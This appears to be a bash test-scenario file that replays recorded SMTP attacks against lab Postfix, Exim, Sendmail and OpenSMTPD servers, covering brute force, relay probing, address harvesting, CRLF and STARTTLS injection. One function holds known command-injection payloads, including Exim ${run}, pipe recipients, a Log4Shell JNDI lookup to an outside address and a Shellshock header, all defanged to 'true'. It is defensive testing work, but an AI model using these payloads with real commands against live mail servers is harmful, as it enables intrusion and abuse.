# shellcheck shell=bash
# Attacks where it matters what a real server says to them. Their truth is in tests/attacks/recorded.

attempt() { # PASSWORD
	talk 198.51.100.25 587 <<-END
		<
		EHLO client.example
		AUTH PLAIN $(plain_token "$1")
		QUIT
	END
}

scenario attack-bruteforce postfix talk.py 'six sessions with a wrong password, then the right one' \
	folder=attacks
attack_bruteforce() {
	local n
	for n in 1 2 3 4 5 6; do
		attempt "wrong-$n"
	done
	attempt "$PASSWORD"
}

scenario attack-bruteforce-near postfix talk.py 'a wrong password twice, then the right one' \
	folder=attacks
attack_bruteforce_near() {
	attempt wrong-1
	attempt wrong-2
	attempt "$PASSWORD"
}

scenario attack-relay-open postfix talk.py 'an open relay takes mail for a foreign domain' \
	folder=attacks 'args=-s 0 -i eth0 tcp port 2527'
attack_relay_open() {
	talk 198.51.100.25 2527 <<-'END'
		<
		EHLO client.example
		MAIL FROM:<sender@client.example>
		RCPT TO:<victim@far.example>
		DATA
		> Subject: relayed
		> 
		> Hello.
		.
		QUIT
	END
}

# The forms by which relays are found; Postfix refuses them all.
scenario attack-relay-probe postfix talk.py 'eight forms of a foreign recipient, all refused' \
	folder=attacks
attack_relay_probe() {
	talk 198.51.100.25 25 <<-'END'
		<
		EHLO client.example
		MAIL FROM:<probe@client.example>
		RCPT TO:<victim@far.example>
		RCPT TO:<victim%far.example@postfix.example>
		RCPT TO:<far.example!victim>
		RCPT TO:<victim@far.example@postfix.example>
		RCPT TO:<"victim@far.example"@postfix.example>
		RCPT TO:<@postfix.example:victim@far.example>
		RCPT TO:<victim@[203.0.113.10]>
		RCPT TO:<"victim%far.example">
		RSET
		QUIT
	END
}

scenario attack-relay-near postfix talk.py 'one recipient of a domain that is not here, one who is' \
	folder=attacks
attack_relay_near() {
	talk 198.51.100.25 25 <<-'END'
		<
		EHLO client.example
		MAIL FROM:<sender@client.example>
		RCPT TO:<alice@postfixe.example>
		RCPT TO:<alice@postfix.example>
		DATA
		> Subject: to the wrong one too
		> 
		> Hello.
		.
		QUIT
	END
}

scenario attack-harvest-rcpt postfix talk.py 'fourteen recipients guessed, two of them there; no DATA' \
	folder=attacks
attack_harvest_rcpt() {
	{
		printf '<\nEHLO client.example\nMAIL FROM:<sender@client.example>\n'
		printf 'RCPT TO:<%s@postfix.example>\n' adam alice anna ben bob carl dora emil \
			frank grace harry ida jack kate
		printf 'RSET\nQUIT\n'
	} | talk 198.51.100.25 25
}

scenario attack-harvest-vrfy sendmail talk.py 'VRFY and EXPN, and answers to them' folder=attacks
attack_harvest_vrfy() {
	talk 198.51.100.28 25 <<-'END'
		<
		EHLO client.example
		VRFY root
		VRFY alice
		VRFY oracle
		VRFY bob
		EXPN team
		QUIT
	END
}

scenario attack-etrn sendmail talk.py 'a dozen ETRN' folder=attacks
attack_etrn() {
	local n
	{
		printf '<\nEHLO client.example\n'
		for ((n = 1; n <= 12; n++)); do
			printf 'ETRN domain%s.example\n' "$n"
		done
		printf 'ETRN #x;true\nQUIT\n'
	} | talk 198.51.100.28 25
}

scenario attack-xclient postfix talk.py 'XCLIENT: refused on port 25, taken on 2512' folder=attacks
attack_xclient() {
	local port
	for port in 25 2512; do
		talk 198.51.100.25 "$port" <<-'END'
			<
			EHLO client.example
			XCLIENT NAME=localhost ADDR=127.0.0.1 HELO=localhost
			EHLO localhost
			MAIL FROM:<sender@client.example>
			RCPT TO:<alice@postfix.example>
			DATA
			> Subject: from within
			> 
			> Hello.
			.
			QUIT
		END
	done
}

scenario attack-proxy postfix talk.py 'a PROXY header that says 127.0.0.1, and relaying by that' \
	folder=attacks 'args=-s 0 -i eth0 tcp port 2513'
attack_proxy() {
	talk 198.51.100.25 2513 <<-'END'
		> PROXY TCP4 127.0.0.1 198.51.100.25 4321 25
		<
		EHLO client.example
		MAIL FROM:<sender@client.example>
		RCPT TO:<victim@far.example>
		DATA
		> Subject: relayed
		> 
		> Hello.
		.
		QUIT
	END
}

# A server that waits for octets that never come; then sizes that are none, in a session each: Postfix
# closes, and Exim reads -1 as four thousand million.
bdat_lies() { # HOST DOMAIN
	local size
	talk "$1" 25 <<-END
		<
		EHLO client.example
		MAIL FROM:<sender@client.example>
		RCPT TO:<alice@$2>
		= BDAT 1000 LAST\r\nSubject: short\r\n\r\nThat is all.\r\nQUIT\r\n
		~ 1
	END
	for size in '-1 LAST' '0x10 LAST' '99999999999999999999 LAST' '10 FIRST'; do
		talk "$1" 25 <<-END
			<
			EHLO client.example
			MAIL FROM:<sender@client.example>
			RCPT TO:<alice@$2>
			= BDAT $size\r\n
			~ 0.5
		END
	done
}

scenario attack-bdat-postfix postfix talk.py 'BDAT whose sizes lie' folder=attacks
attack_bdat_postfix() { bdat_lies 198.51.100.25 postfix.example; }

scenario attack-bdat-exim exim talk.py 'BDAT whose sizes lie' folder=attacks
attack_bdat_exim() { bdat_lies 198.51.100.26 exim.example; }

# Content behind DATA in one write: Postfix takes it, Exim does not.
after_data() { # HOST DOMAIN
	talk "$1" 25 <<-END
		<
		EHLO client.example
		= MAIL FROM:<sender@client.example>\r\nRCPT TO:<alice@$2>\r\nDATA\r\nSubject: hasty\r\n\r\nHello.\r\n.\r\nQUIT\r\n
		<
		<
		<
		eof
	END
}

scenario attack-pipelining-postfix postfix talk.py 'content behind DATA, before 354' folder=attacks
attack_pipelining_postfix() { after_data 198.51.100.25 postfix.example; }

scenario attack-pipelining-exim exim talk.py 'content behind DATA, before 354' folder=attacks
attack_pipelining_exim() { after_data 198.51.100.26 exim.example; }

scenario attack-crlf-injection postfix talk.py 'CR LF in a path and behind SIZE=' folder=attacks
attack_crlf_injection() {
	talk 198.51.100.25 25 <<-'END'
		<
		EHLO client.example
		= MAIL FROM:<sender@client.example\r\nRCPT TO:<bob@postfix.example>\r\n
		<
		<
		= MAIL FROM:<sender@client.example> SIZE=500\r\nRCPT TO:<bob@postfix.example>\r\n
		<
		<
		RCPT TO:<alice@postfix.example>
		DATA
		> Subject: injected
		> 
		> Hello.
		.
		QUIT
	END
}

# Names that no client should say, each in a session of its own; the last talks early and resets.
scenario attack-bots postfix talk.py 'HELO is an address, localhost, the server; early talk; no QUIT' \
	folder=attacks
attack_bots() {
	local name
	for name in 192.0.2.10 localhost mx.postfix.example WIN-A1B2C3D4 '[192.168.1.5]'; do
		talk 198.51.100.25 25 <<-END
			<
			HELO $name
			MAIL FROM:<a$RANDOM@bulk.example>
			RCPT TO:<alice@postfix.example>
			DATA
			> From: a@bulk.example
			> Subject: offer
			> 
			> Buy.
			.
		END
	done
	talk 198.51.100.25 25 <<-'END'
		> HELO client.example
		<
		<
		rst
	END
}

# Expansions and commands that do nothing, to servers that know better by now.
exploits() { # HOST DOMAIN
	talk "$1" 25 <<-END
		<
		EHLO client.example
		MAIL FROM:<;true;>
		RSET
		MAIL FROM:<sender@client.example>
		RCPT TO:<root+\${run{\\x2Fbin\\x2Ftrue}}@$2>
		RCPT TO:<root+:"|true"@$2>
		RCPT TO:<"aabbb\$(true)"@$2>
		RCPT TO:<alice@$2>
		DATA
		> Subject: \${jndi:ldap://203.0.113.9/x}
		> X-Comment: () { :; }; true
		> 
		> Hello.
		.
		QUIT
	END
}

scenario attack-exploits-exim exim talk.py 'known exploits, with true for a command' folder=attacks
attack_exploits_exim() { exploits 198.51.100.26 exim.example; }

scenario attack-exploits-opensmtpd opensmtpd talk.py 'known exploits, with true for a command' \
	folder=attacks
attack_exploits_opensmtpd() { exploits 198.51.100.27 opensmtpd.example; }

secure() { # KIND HOST PORT RECIPIENT
	install -m 755 "$HERE/tools/secure.py" "$(root_path mailers)/usr/local/bin/secure.py"
	run_in client "$(root_path mailers)" client.example python3 /usr/local/bin/secure.py "$@"
}

scenario attack-starttls-injection-postfix postfix talk.py 'commands behind STARTTLS; Postfix forgets them' \
	folder=attacks
attack_starttls_injection_postfix() { secure inject 198.51.100.25 25 alice@postfix.example; }

scenario attack-starttls-injection-exim exim talk.py 'commands behind STARTTLS; Exim refuses them' \
	folder=attacks
attack_starttls_injection_exim() { secure inject 198.51.100.26 25 alice@exim.example; }

scenario attack-starttls-fallback postfix talk.py 'a handshake that fails, then the mail in clear' \
	folder=attacks
attack_starttls_fallback() { secure fallback 198.51.100.25 2529 alice@postfix.example; }

scenario attack-tls-old postfix talk.py \
	'TLS 1.0, 1.1, no certificate, no encryption; RSA of 1024 bits, SHA-1, expired' folder=attacks
attack_tls_old() { secure old 198.51.100.25 2528 alice@postfix.example; }
